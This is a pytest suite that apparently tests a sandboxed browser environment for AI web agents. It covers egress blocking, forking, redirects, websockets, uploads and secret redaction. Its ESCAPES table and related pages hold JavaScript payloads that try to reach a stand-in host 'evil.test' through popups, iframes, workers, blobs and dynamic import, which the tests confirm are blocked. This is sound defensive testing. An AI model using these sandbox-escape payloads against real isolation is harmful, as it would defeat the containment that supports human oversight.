"""Sites outside the sandbox: a real browser in a real sandbox, a server on the host."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import shutil
import subprocess
from collections.abc import AsyncIterator, Callable, Iterator
from pathlib import Path
from urllib.parse import quote

import msgspec
import pytest
import pytest_asyncio

from exact.config import BrowserConfig
from exact.environments.base import SideEffect, Transition
from exact.environments.browser import BrowserEnvironment, PageSetup
from exact.environments.browser.fork.factory import ForkingFactory, forking
from exact.environments.browser.network.recording import Recording
from exact.environments.sandbox.runsc import find_runsc
from exact.environments.sites.site import Account, Outside
from exact.errors import EnvironmentFailure
from exact.observation import Observation
from exact.task import Task
from tests.environments.browser.outside import Site, serving
from tests.environments.browser.pages import find, forked

pytestmark = pytest.mark.asyncio(loop_scope="session")

CONFIG = BrowserConfig(screenshots=False, width=600, height=400, settle_seconds=2.0)
TASK = Task(id="shop/buy", instruction="Buy.", start="http://shop.test/")
AWAY = "http://evil.test/text"


@pytest.fixture(scope="module")
def site(executable: str) -> Iterator[Site]:
    """Skipped where there is no browser or no usable runsc."""
    try:
        find_runsc()
    except EnvironmentFailure as error:
        pytest.skip(str(error))
    with serving() as site:
        yield site


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def environments(site: Site) -> AsyncIterator[ForkingFactory]:
    hosts = dict.fromkeys(("shop.test", "evil.test"), f"127.0.0.1:{site.port}")
    async with forking(CONFIG, PageSetup(), outside=Outside(hosts=hosts)) as opened:
        yield opened


@pytest.fixture
def fresh(site: Site) -> Site:
    """Return the site without recorded requests."""
    site.pages.clear()
    site.asked.clear()
    site.cookies.clear()
    site.received, site.sockets = b"", 0
    site.go.clear()
    return site


async def do(environment: BrowserEnvironment, text: str) -> Transition:
    return await environment.step(environment.actions.parse(text))


async def click(environment: BrowserEnvironment, name: str) -> Transition:
    return await do(environment, f"click [{find(environment.observation, name).id}]")


def blocked(effects: tuple[SideEffect, ...]) -> list[tuple[str, str]]:
    return [(effect.method, effect.url) for effect in effects if effect.kind == "blocked"]


async def until(condition: Callable[[], bool]) -> None:
    async with asyncio.timeout(10):
        while not condition():  # noqa: ASYNC110 (nobody tells)
            await asyncio.sleep(0.01)


async def shown(environment: BrowserEnvironment, text: str) -> Observation:
    """Wait until the page has that text."""
    async with asyncio.timeout(20):
        while text not in environment.observation.text:
            await do(environment, "wait")
    return environment.observation


async def test_a_page_of_a_site_outside_is_forked_with_its_scripts_and_half_typed_form(environments: ForkingFactory, fresh: Site) -> None:
    fresh.pages["/"] = "<input aria-label=note><button onclick='this.textContent = ++n'>0</button><script>n = 41</script>"
    async with environments.open(simulation=True) as environment:
        observation = await environment.reset(TASK)
        assert (environment.capabilities.fidelity, environment.capabilities.isolated) == ("client", False)
        await do(environment, f'fill [{find(observation, "note").id}] "half a senten"')
        snapshot = await environment.snapshot()
        await click(environment, "0")
        async with environments.fork(snapshot, simulation=True) as branch:
            assert snapshot.fidelity == "client" and branch.observation.fingerprint == snapshot.fingerprint
            assert 'value="half a senten" focused' in branch.observation.text
            assert find((await click(branch, "0")).observation, "42")
        assert fresh.asked == ["GET /"]


@pytest_asyncio.fixture(loop_scope="session")
async def environment(environments: ForkingFactory, fresh: Site) -> AsyncIterator[BrowserEnvironment]:
    """Open an environment that may write. It was not reset, and the site has no pages yet."""
    async with environments.open(simulation=False) as environment:
        yield environment


@pytest.mark.parametrize("hops", [1, 2, 3])
async def test_a_forbidden_host_is_not_reached_at_any_hop_of_a_redirect(environment: BrowserEnvironment, fresh: Site, hops: int) -> None:
    url = AWAY
    for _ in range(hops):
        url = f"/hop?to={quote(url)}"
    fresh.pages["/"] = f"<a href='{url}'>Go</a>"
    seen = await environment.reset(TASK)
    step = await click(environment, "Go")
    assert blocked(step.effects) == [("GET", AWAY)]
    assert step.observation is not None and step.observation.url == seen.url
    assert fresh.asked.count("GET /hop") == hops and "GET /text" not in fresh.asked


async def test_cookies_are_kept_across_redirects_and_branches(
    environment: BrowserEnvironment, environments: ForkingFactory, fresh: Site
) -> None:
    fresh.pages["/"] = "<a href='/hop?cookie=one&to=/hop%3Fcookie%3Dtwo%26to%3D/who'>Log in</a>"
    await environment.reset(TASK)
    assert find((await click(environment, "Log in")).observation, "Cookies: one=yes; two=yes")
    async with environments.fork(await environment.snapshot(), simulation=True) as branch:
        await do(branch, 'goto "/who"')
        assert find(branch.observation, "Cookies: one=yes; two=yes")


ESCAPES = {
    "popup": f"<button onclick=\"window.open('{AWAY}')\">Go</button>",
    "frame": f"<button onclick=\"document.body.append(Object.assign(document.createElement('iframe'), {{src: '{AWAY}'}}))\">Go</button>",
    "worker": f"<button onclick=\"new Worker('/script?run=' + encodeURIComponent('fetch(`{AWAY}`)'))\">Go</button>",
    "worker of a blob": f"<button onclick=\"new Worker(window.URL.createObjectURL(new Blob(['fetch(`{AWAY}`)'])))\">Go</button>",
    "shared worker": f"<button onclick=\"new SharedWorker('/script?run=' + encodeURIComponent('fetch(`{AWAY}`)'))\">Go</button>",
    "module": f"<button onclick=\"import('{AWAY}')\">Go</button>",
}


@pytest.mark.parametrize("page", ESCAPES.values(), ids=ESCAPES.keys())
async def test_no_way_leads_to_a_forbidden_host_and_the_attempt_is_recorded(
    environment: BrowserEnvironment, fresh: Site, page: str
) -> None:
    fresh.pages["/"] = page
    await environment.reset(TASK)
    effects = [*(await click(environment, "Go")).effects, *(await do(environment, "wait")).effects]
    assert ("GET", AWAY) in blocked(tuple(effects))
    assert "GET /text" not in fresh.asked


ASKING = "setInterval(() => fetch('http://shop.test/text?of=%s', {method: 'PUT'}).catch(() => 0), 700)"
LIVELY = f"""<p>Here<iframe srcdoc="<script>{ASKING % "frame"}</script>"></iframe><script>{ASKING % "page"}
    window.one = new Worker('/script?run=' + encodeURIComponent(`{ASKING % "worker"}`))
    new SharedWorker('/script?run=' + encodeURIComponent(`{ASKING % "shared"}`))
    window.two = new Worker(window.URL.createObjectURL(new Blob([`{ASKING % "blob"}`])))</script>"""


async def test_requests_of_a_restored_fork_are_intercepted_from_the_first_on(environments: ForkingFactory, fresh: Site) -> None:
    fresh.pages["/"] = LIVELY
    async with environments.open(simulation=True) as environment:
        await environment.reset(TASK)
        for _ in range(2):
            await until(lambda: not environment.obstacle)
            await environment.restore(await environment.snapshot())
        found: set[str] = set()
        async with asyncio.timeout(20):
            while len(found) < 5:
                found |= {url.partition("of=")[2] for _, url in blocked((await do(environment, "wait")).effects)}
    assert found == {"frame", "page", "worker", "blob", "shared"} and "PUT /text" not in fresh.asked


@pytest.mark.parametrize(
    "register", ["navigator.serviceWorker.register(", "ServiceWorkerContainer.prototype.register.call(navigator.serviceWorker, "]
)
async def test_a_service_worker_does_not_come_between(environment: BrowserEnvironment, fresh: Site, register: str) -> None:
    code = "addEventListener('fetch', event => event.respondWith(new Response('from the worker')))"
    fresh.pages["/"] = f"""<button onclick="{register}'/script?run=' + encodeURIComponent(`{code}`), {{scope: '/'}})
        .then(() => 0, () => 0).then(() => this.textContent = 'asked ' + isSecureContext)">Go</button>"""
    home = f"http://localhost:{fresh.port}"  # a secure context: elsewhere there are no service workers
    await environment.reset(msgspec.structs.replace(TASK, start=f"{home}/"))
    await click(environment, "Go")
    assert find(environment.observation, "asked true")
    for _ in range(2):
        await do(environment, f'goto "{home}/text"')
        assert find(environment.observation, "some text")
    assert "GET /script" not in fresh.asked


@pytest.mark.parametrize(
    "how",
    [
        "<form method=post action=/size><button>Go</button></form>",
        "<button onclick=\"fetch('/size', {method: 'PUT', body: 'x'}).catch(() => 0)\">Go</button>",
    ],
)
async def test_a_write_is_blocked_in_simulation_and_a_side_effect_on_live(environments: ForkingFactory, fresh: Site, how: str) -> None:
    fresh.pages["/"] = how
    for simulation in (True, False):
        async with environments.open(simulation=simulation) as environment:
            await environment.reset(TASK)
            effects = (await click(environment, "Go")).effects
            assert [effect.is_blocked for effect in effects] == [simulation] and [effect.is_write for effect in effects] == [not simulation]
            assert [effect.reach for effect in effects] == ["" if simulation else "outside"]
            assert ("POST /size" in fresh.asked or "PUT /size" in fresh.asked) is not simulation


async def test_an_upload_of_megabytes_arrives_whole(environment: BrowserEnvironment, fresh: Site) -> None:
    fresh.pages[
        "/"
    ] = """<form method=post action=/size enctype=multipart/form-data><input type=file name=f aria-label=f><button>Go</button></form>
        <script>const files = new DataTransfer();
        files.items.add(new File([new Uint8Array(1000000).map((_, i) => i % 251)], 'large.bin'));
        document.querySelector('input').files = files.files</script>"""
    await environment.reset(TASK)
    assert [effect.status for effect in (await click(environment, "Go")).effects] == [200]
    body = bytes(index % 251 for index in range(1000000))
    assert body in fresh.received and b'filename="large.bin"' in fresh.received
    await shown(environment, hashlib.sha256(fresh.received).hexdigest())


async def test_a_download_is_an_effect_and_leaves_the_page(environment: BrowserEnvironment, fresh: Site) -> None:
    fresh.pages["/"] = "<a href=/file>Bill</a>"
    await environment.reset(TASK)
    step = await click(environment, "Bill")
    assert [(effect.kind, effect.detail) for effect in step.effects] == [("download", "bill.pdf")]
    assert find(step.observation, "Bill")


async def test_a_response_of_megabytes_arrives_whole_while_others_go_on(environment: BrowserEnvironment, fresh: Site) -> None:
    fresh.pages["/"] = """<button onclick="fetch('/large?bytes=8388608').then(r => r.arrayBuffer())
        .then(b => this.textContent = 'got ' + b.byteLength + ' ' + new Uint8Array(b)[8388607])">Go</button>"""
    await environment.reset(TASK)
    await click(environment, "Go")
    await shown(environment, "got 8388608 255")


STREAM = """<p>-</p><script>fetch('/stream').then(async r => { const reader = r.body.getReader(), text = new TextDecoder();
    for (let part; !(part = await reader.read()).done;) document.querySelector('p').textContent += text.decode(part.value); })</script>"""
EVENTS = """<p>-</p><script>const s = new EventSource('/stream?kind=text/event-stream');
    s.onmessage = e => document.querySelector('p').textContent += e.data; s.onerror = () => document.title = 'lost'</script>"""


@pytest.mark.parametrize("page", [STREAM, EVENTS])
async def test_a_stream_is_seen_as_it_comes_and_a_snapshot_before_its_end_counts_as_page(
    environment: BrowserEnvironment, fresh: Site, page: str
) -> None:
    fresh.pages["/"] = page
    await environment.reset(TASK)
    assert "second" not in (await shown(environment, "first")).text
    snapshot = await environment.snapshot()
    assert (snapshot.severed, snapshot.fidelity) == ("a response that still comes in", "page")
    fresh.go.set()
    await shown(environment, "second")


@pytest.mark.parametrize(
    ("page", "why"),
    [
        ("<a href='/stream?kind=application/pdf&as=bill.pdf'>Go</a>", "a file is coming in"),
        ("<button onclick=document.querySelector('iframe').src='/stream?kind=text/html'>Go</button><iframe></iframe>", "a request waits"),
    ],
)
async def test_no_snapshot_is_taken_while_something_is_under_way(environment: BrowserEnvironment, fresh: Site, page: str, why: str) -> None:
    fresh.pages["/"] = page
    await environment.reset(TASK)
    await click(environment, "Go")
    with pytest.raises(EnvironmentFailure, match=f"no snapshot now: {why}"):
        await environment.snapshot()
    fresh.go.set()
    await until(lambda: not environment.obstacle)
    await environment.snapshot()


SOCKET = """<p>-</p><script>const connect = () => { const socket = new WebSocket(location.origin.replace('http', 'ws') + '/socket');
    socket.onmessage = e => document.querySelector('p').textContent += e.data;
    socket.onclose = () => setTimeout(connect, 50); }; connect()</script>"""


async def test_a_websocket_is_closed_at_a_restore_and_the_application_connects_again(
    environment: BrowserEnvironment, environments: ForkingFactory, fresh: Site
) -> None:
    fresh.pages["/"] = SOCKET
    await environment.reset(TASK)
    await shown(environment, "number 1")
    snapshot = await environment.snapshot()
    assert (forked(environment).severed(environment.episode.tabs), snapshot.fidelity) == ("1 WebSocket to the outside", "page")
    async with environments.fork(snapshot, simulation=False) as branch:
        assert find(await shown(branch, "number 2"), "number 1")
    await do(environment, "wait")
    assert "number 2" not in environment.observation.text


async def test_a_websocket_is_refused_while_exploring(environments: ForkingFactory, fresh: Site) -> None:
    fresh.pages["/"] = SOCKET
    async with environments.open(simulation=True) as environment:
        await environment.reset(TASK)
        await do(environment, "wait")
        assert (await environment.snapshot()).fidelity == "client"
    assert fresh.sockets == 0


@pytest_asyncio.fixture(loop_scope="session")
async def impatient(environments: ForkingFactory, fresh: Site, monkeypatch: pytest.MonkeyPatch) -> AsyncIterator[BrowserEnvironment]:
    """Open an environment as `environment`, with 3 s for a server to answer."""
    monkeypatch.setattr(environments.store, "config", msgspec.structs.replace(CONFIG, answer_seconds=3.0))
    async with environments.open(simulation=False) as environment:
        yield environment


@pytest.mark.parametrize("how", ["click", "goto"])
async def test_a_navigation_that_is_never_answered_is_stopped_and_the_page_before_stays(
    impatient: BrowserEnvironment, fresh: Site, how: str
) -> None:
    fresh.pages["/"] = "<a href=/never>Go</a><button onclick='this.textContent = 42'>Other</button>"
    await impatient.reset(TASK)
    step = await (click(impatient, "Go") if how == "click" else do(impatient, 'goto "/never"'))
    assert step.info == {"unsettled": "http://shop.test/never did not answer for 3 s: its loading was stopped"}
    assert impatient.obstacle == "" and find((await click(impatient, "Other")).observation, "42")


async def test_a_wait_returns_although_the_page_navigates_to_a_server_that_does_not_answer(
    impatient: BrowserEnvironment, fresh: Site
) -> None:
    fresh.pages["/"] = "<p>Here<script>setTimeout(() => location = '/never', 700)</script>"
    await impatient.reset(TASK)
    for _ in range(2):
        assert find((await do(impatient, "wait")).observation, "Here")
    assert "GET /never" in fresh.asked


async def test_a_popup_that_is_never_answered_leaves_its_opener(impatient: BrowserEnvironment, fresh: Site) -> None:
    fresh.pages["/"] = "<button onclick=\"window.open('/never')\">Go</button>"
    await impatient.reset(TASK)
    assert find((await click(impatient, "Go")).observation, "Go")
    assert find((await do(impatient, "wait")).observation, "Go")


async def test_a_start_that_is_never_answered_is_an_error_with_the_way_out(impatient: BrowserEnvironment) -> None:
    with pytest.raises(EnvironmentFailure, match=r"never did not answer for 3 s: raise browser.answer_seconds"):
        await impatient.reset(msgspec.structs.replace(TASK, start="http://shop.test/never"))


LOGIN = """<p>-</p><input aria-label=user><input type=password aria-label=pass><button onclick="const [user, pass] =
    [...document.querySelectorAll('input')].map(each => each.value);
    fetch('/size?user=' + user, {method: 'POST', body: 'password=' + pass});
    document.querySelector('p').textContent = 'Hello ' + user + ' ' + pass">Log in</button>"""


async def test_each_branch_has_a_log_in_of_its_own_whose_secrets_are_not_read(fresh: Site, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SHOP_PASSWORD", "hunter2")
    fields = {"user": "ann", "password": "$SHOP_PASSWORD"}
    accounts = tuple(Account(name=name, fields=fields | {"user": name}) for name in ("anna", "bob"))
    outside = Outside(hosts={"shop.test": f"127.0.0.1:{fresh.port}"}, accounts=accounts)
    fresh.pages["/"] = LOGIN
    async with forking(CONFIG, PageSetup(), outside=outside) as environments, environments.open(simulation=False) as first:
        seen = await first.reset(TASK)
        await do(first, f'fill [{find(seen, "user").id}] "<user>"')
        await do(first, f'fill [{find(seen, "pass").id}] "<password>"')
        step = await click(first, "Log in")
        assert fresh.received == b"password=hunter2" and find(step.observation, "Hello <secret:user> <secret:password>")
        assert [effect.url for effect in step.effects] == ["http://shop.test/size?user=<secret:user>"]
        assert b"hunter2" not in msgspec.json.encode(step) and b"anna" not in msgspec.json.encode(step)
        async with environments.open(simulation=False):
            third = asyncio.ensure_future(anext(aiter(_opened(environments))))
            with pytest.raises(EnvironmentFailure, match="another environment uses the log-in anna"):
                async with environments.fork(await first.snapshot(), simulation=False):
                    pass
            assert not third.done()
        await third


async def _opened(environments: ForkingFactory) -> AsyncIterator[None]:
    async with environments.open(simulation=False):
        yield


async def test_recorded_traffic_answers_where_the_site_is_gone_and_has_no_credentials(fresh: Site, tmp_path: Path) -> None:
    fresh.pages["/"] = LOGIN + "<a href='/hop?cookie=sid&to=/who'>Go</a>"
    for mode in ("record", "replay"):
        recording = Recording(tmp_path / "traffic.jsonl", "record" if mode == "record" else "replay")
        place = f"127.0.0.1:{fresh.port}" if mode == "record" else "127.0.0.1:9"
        async with (
            forking(CONFIG, PageSetup(), outside=Outside(hosts={"shop.test": place}), recording=recording) as environments,
            environments.open(simulation=False) as environment,
        ):
            seen = await environment.reset(TASK)
            await do(environment, f'fill [{find(seen, "pass").id}] "hunter2"')
            assert [effect.status for effect in (await click(environment, "Log in")).effects] == [200]
            assert "Cookies" in (await do(environment, f"click [{find(seen, 'Go').id}]")).observation.text  # type: ignore[union-attr]
            if mode == "replay":
                assert [effect.detail for effect in (await do(environment, 'goto "/text"')).effects] == ["not in the recorded traffic"]
    assert "hunter2" not in (tmp_path / "traffic.jsonl").read_text() and "sid=yes" not in (tmp_path / "traffic.jsonl").read_text()


@pytest.fixture
def certificate(tmp_path: Path) -> tuple[Path, str]:
    """Return a self-signed certificate for shop.test with its key, and the pin with which it is trusted."""
    if shutil.which("openssl") is None:
        pytest.skip("there is no openssl: apt-get install openssl")
    file = tmp_path / "shop.pem"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=shop.test"]
    subprocess.run(
        [*command, "-addext", "subjectAltName=DNS:shop.test", "-keyout", file, "-out", tmp_path / "cert.pem"],
        check=True,
        capture_output=True,
    )
    key = subprocess.run(["openssl", "pkey", "-in", file, "-pubout", "-outform", "der"], check=True, capture_output=True).stdout
    file.write_bytes(file.read_bytes() + (tmp_path / "cert.pem").read_bytes())
    return file, base64.b64encode(hashlib.sha256(key).digest()).decode()


async def test_a_site_with_tls_is_reached_and_its_sockets_are_seen(executable: str, site: Site, certificate: tuple[Path, str]) -> None:
    file, key = certificate
    with serving(file) as secure:
        secure.pages["/"] = SOCKET
        outside = Outside(hosts={"shop.test": f"127.0.0.1:{secure.port}"}, trusted=(key,))
        async with forking(CONFIG, PageSetup(), outside=outside) as environments, environments.open(simulation=False) as environment:
            await environment.reset(msgspec.structs.replace(TASK, start="https://shop.test/"))
            await shown(environment, "number 1")
            assert forked(environment).severed(environment.episode.tabs) == "1 WebSocket to the outside"
        strict = msgspec.structs.replace(outside, trusted=())
        async with forking(CONFIG, PageSetup(), outside=strict) as environments, environments.open(simulation=False) as environment:
            with pytest.raises(EnvironmentFailure, match="ERR_CERT_AUTHORITY_INVALID"):
                await environment.reset(msgspec.structs.replace(TASK, start="https://shop.test/"))
